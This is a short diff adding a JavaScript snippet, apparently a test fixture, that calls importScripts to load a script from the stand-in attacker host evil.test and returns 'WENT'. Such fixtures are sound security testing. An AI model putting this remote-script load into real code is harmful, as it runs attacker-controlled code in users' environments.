@@ -1,0 +1,4 @@
+// importScripts.
+
+importScripts('http://evil.test/x.js');
+return 'WENT';
